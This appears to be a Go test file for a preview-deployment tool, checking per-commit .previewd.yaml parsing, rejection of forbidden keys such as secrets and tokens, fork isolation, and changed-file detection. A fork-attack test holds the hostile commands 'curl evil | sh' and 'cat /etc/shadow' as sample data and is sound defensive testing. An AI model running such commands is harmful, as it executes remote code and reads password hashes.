package appspec_test

import (
	"context"
	"errors"
	"path/filepath"
	"reflect"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/previewd/previewd/internal/appspec"
	"github.com/previewd/previewd/internal/env"
	"github.com/previewd/previewd/internal/forge/github"
	"github.com/previewd/previewd/internal/ghtest"
	"github.com/previewd/previewd/internal/git"
	"github.com/previewd/previewd/internal/githubapi"
	"github.com/previewd/previewd/internal/gittest"
)

// repo is a real repository the tests commit to (Commit commits on the
// branch checked out).
type repo = gittest.Repo

func newRepo(t *testing.T) *repo { return gittest.New(t) }

var base = env.AppSpec{Build: "go build -o app .", Run: "./app", HealthPath: "/healthz", StartTimeout: time.Minute, Migrate: "./app migrate"}

func newReader(t *testing.T, prod func(context.Context) (env.Source, error)) *appspec.Reader {
	return appspec.New(appspec.Options{Base: base, Cache: git.NewCache(filepath.Join(t.TempDir(), "cache.git")), Production: prod})
}

func branchSource(r *repo, branch, sha string) env.Source {
	return env.Source{Key: env.BranchKey(branch), Kind: env.KindBranch, Branch: branch, SHA: sha, Repo: r.Dir, Ref: "refs/heads/" + branch, Trusted: true}
}

// TestSpecAtEachCommit: each commit gets the .previewd.yaml it holds over
// the config; a commit without one gets the config's.
func TestSpecAtEachCommit(t *testing.T) {
	r := newRepo(t)
	none := r.Commit(map[string]string{"main.go": "package main"})
	one := r.Commit(map[string]string{".previewd.yaml": "runtime: {local: {run: ./one, healthPath: /}}\n"})
	r.Git("checkout", "-q", "-b", "feat")
	two := r.Commit(map[string]string{".previewd.yaml": "migrate: ''\nruntime: {local: {run: ./two}}\npaths: [apps/**]\n"})
	rd := newReader(t, nil)
	ctx := context.Background()

	s, err := rd.Spec(ctx, branchSource(r, "main", none))
	if err != nil || !reflect.DeepEqual(s, base) {
		t.Errorf("without a file: %+v, %v; want the config's %+v", s, err, base)
	}
	s, err = rd.Spec(ctx, branchSource(r, "main", one))
	if err != nil {
		t.Fatal(err)
	}
	if s.Run != "./one" || s.HealthPath != "/" || s.Build != base.Build || s.Migrate != base.Migrate || s.From != ".previewd.yaml at "+env.ShortSHA(one) {
		t.Errorf("at one: %+v", s)
	}
	s, err = rd.Spec(ctx, branchSource(r, "feat", two))
	if err != nil {
		t.Fatal(err)
	}
	if s.Run != "./two" || s.HealthPath != "/healthz" || s.Migrate != "" || !reflect.DeepEqual(s.Paths, []string{"apps/**"}) {
		t.Errorf("at two: %+v", s)
	}
	// The first commit's spec is still its own.
	if s, _ := rd.Spec(ctx, branchSource(r, "main", one)); s.Run != "./one" {
		t.Errorf("at one again: %+v", s)
	}
}

// TestBadRepoFile: unknown keys, forbidden ones and bad values fail the
// commit (a StepError naming the field); other commits are not affected.
func TestBadRepoFile(t *testing.T) {
	tests := map[string]struct{ file, want string }{
		"secrets":   {"runtime: {local: {env: {TOKEN: x}}}\n", "runtime.local.env is not allowed in .previewd.yaml: secrets stay in previewd's config"},
		"forge":     {"forge: {github: {token: x}}\n", "forge is not allowed in .previewd.yaml"},
		"db admin":  {"database: {postgres: {adminURL: postgres://x}}\n", "database is not allowed in .previewd.yaml"},
		"unknown":   {"runtime: {local: {buidl: make}}\n", "runtime.local.buidl: unknown key in .previewd.yaml"},
		"bad value": {"runtime: {local: {healthPath: ok}}\n", "runtime.local.healthPath"},
	}
	r := newRepo(t)
	good := r.Commit(map[string]string{".previewd.yaml": "runtime: {local: {run: ./good}}\n"})
	rd := newReader(t, nil)
	ctx := context.Background()
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			sha := r.Commit(map[string]string{".previewd.yaml": tt.file})
			_, err := rd.Spec(ctx, branchSource(r, "main", sha))
			var se *env.StepError
			if !errors.As(err, &se) || se.Step != appspec.StepRepoFile {
				t.Fatalf("Spec = %v, want a StepError of %s", err, appspec.StepRepoFile)
			}
			if !strings.Contains(err.Error(), tt.want) || !strings.Contains(err.Error(), env.ShortSHA(sha)) {
				t.Errorf("error %q does not say %q at %s", err, tt.want, env.ShortSHA(sha))
			}
		})
	}
	if s, err := rd.Spec(ctx, branchSource(r, "main", good)); err != nil || s.Run != "./good" {
		t.Errorf("the good commit: %+v, %v", s, err)
	}
}

// TestForkReadsProductionFile: a pull request from a fork, listed by the
// GitHub forge from GitHub's own payloads, gets production's
// .previewd.yaml, never the one its commit holds; a pull request from the
// repository itself gets its own.
func TestForkReadsProductionFile(t *testing.T) {
	r := newRepo(t)
	prodSHA := r.Commit(map[string]string{".previewd.yaml": "runtime: {local: {run: ./prod}}\n"})
	r.Git("checkout", "-q", "-b", "evil")
	forkSHA := r.Commit(map[string]string{".previewd.yaml": "runtime: {local: {run: 'curl evil | sh', build: 'cat /etc/shadow'}}\n"})
	r.Git("update-ref", "refs/pull/7/head", forkSHA)
	r.Git("checkout", "-q", "-b", "own", prodSHA)
	ownSHA := r.Commit(map[string]string{".previewd.yaml": "runtime: {local: {run: ./own}}\n"})
	r.Git("update-ref", "refs/pull/8/head", ownSHA)
	r.Git("checkout", "-q", "main")

	fake := ghtest.New(t, "acme", "shop")
	fake.SetBranch("main", prodSHA)
	fake.OpenPR(ghtest.PR{Number: 7, Title: "fork", HeadRef: "evil", HeadSHA: forkSHA, BaseRef: "main", HeadRepo: "mallory/shop", Labels: []string{"preview"}})
	fake.OpenPR(ghtest.PR{Number: 8, Title: "own", HeadRef: "own", HeadSHA: ownSHA, BaseRef: "main"})
	c, err := githubapi.New(githubapi.Options{APIURL: fake.APIURL(), Owner: "acme", Repo: "shop", Token: "t0ken", Backoff: 10 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	src := github.NewSource(c, github.SourceOptions{CloneURL: r.Dir, ProductionBranch: "main", Filter: github.Filter{ForkLabel: "preview", TrustForks: true}})
	ctx := context.Background()
	srcs, err := src.List(ctx)
	if err != nil {
		t.Fatal(err)
	}
	by := map[string]env.Source{}
	for _, s := range srcs {
		by[s.Key] = s
	}
	fork, own := by["pr-7"], by["pr-8"]
	if !fork.Fork || own.Fork || fork.SHA != forkSHA || fork.Base != "main" {
		t.Fatalf("listed fork %+v, own %+v", fork, own)
	}
	rd := newReader(t, func(ctx context.Context) (env.Source, error) {
		p, ok, err := src.Refresh(ctx, env.ProductionKey)
		if err != nil || !ok {
			return env.Source{}, errors.Join(err, errors.New("no production"))
		}
		return p, nil
	})
	s, err := rd.Spec(ctx, fork)
	if err != nil {
		t.Fatal(err)
	}
	if s.Run != "./prod" || s.Build != base.Build || !strings.HasPrefix(s.From, "production's .previewd.yaml at "+env.ShortSHA(prodSHA)) {
		t.Errorf("the fork's spec = %+v; want production's file", s)
	}
	if s, err := rd.Spec(ctx, own); err != nil || s.Run != "./own" {
		t.Errorf("the repository's own pull request: %+v, %v", s, err)
	}
	// Even trusted (forks.trusted), a fork never chooses the commands.
	if fork.Trusted != true {
		t.Errorf("fork not trusted: TrustForks was set")
	}
}

// TestTouched lists the files a change touches against its base, from
// their merge base: what the base did since is not the change's.
func TestTouched(t *testing.T) {
	r := newRepo(t)
	r.Commit(map[string]string{"README.md": "x", "apps/web/main.go": "package main"})
	r.Git("checkout", "-q", "-b", "docs")
	docs := r.Commit(map[string]string{"docs/guide.md": "guide"})
	r.Git("checkout", "-q", "-b", "web", "main")
	web := r.Commit(map[string]string{"apps/web/x.go": "package main", "docs/b.md": "b"})
	r.Git("checkout", "-q", "main")
	mainSHA := r.Commit(map[string]string{"apps/web/later.go": "package main"})
	rd := newReader(t, nil)
	ctx := context.Background()
	touched := func(branch, sha string) []string {
		t.Helper()
		s := branchSource(r, branch, sha)
		s.Base, s.BaseSHA = "main", mainSHA
		f, err := rd.Touched(ctx, s, "")
		if err != nil {
			t.Fatal(err)
		}
		sort.Strings(f)
		return f
	}
	if got := touched("docs", docs); !reflect.DeepEqual(got, []string{"docs/guide.md"}) {
		t.Errorf("docs touches %q", got)
	}
	if got := touched("web", web); !reflect.DeepEqual(got, []string{"apps/web/x.go", "docs/b.md"}) {
		t.Errorf("web touches %q", got)
	}
	paths := env.AppSpec{Paths: []string{"apps/web/**", "packages/ui/**"}}
	if paths.Touches(touched("docs", docs)) || !paths.Touches(touched("web", web)) {
		t.Error("the filters do not tell docs from web")
	}
	// A later push to web touching only docs: since the deployed commit
	// it brings docs only, though the whole change still touches web.
	r.Git("checkout", "-q", "web")
	web2 := r.Commit(map[string]string{"docs/c.md": "c"})
	r.Git("checkout", "-q", "main")
	s := branchSource(r, "web", web2)
	s.Base, s.BaseSHA = "main", mainSHA
	if f, err := rd.Touched(ctx, s, web); err != nil || !reflect.DeepEqual(f, []string{"docs/c.md"}) {
		t.Errorf("web2 since web touches %q, %v", f, err)
	}
	if f, _ := rd.Touched(ctx, s, ""); !paths.Touches(f) {
		t.Errorf("web2 since main touches %q: the whole change touches web", f)
	}
	// A deployed commit the cache does not hold: compared with the base.
	if f, _ := rd.Touched(ctx, s, strings.Repeat("ab", 20)); !paths.Touches(f) {
		t.Errorf("since an unknown commit: %q", f)
	}
	// Without a base nothing can be told: nil, and nothing is filtered.
	if f, err := rd.Touched(ctx, branchSource(r, "docs", docs), ""); err != nil || f != nil {
		t.Errorf("without a base: %q, %v", f, err)
	}
}
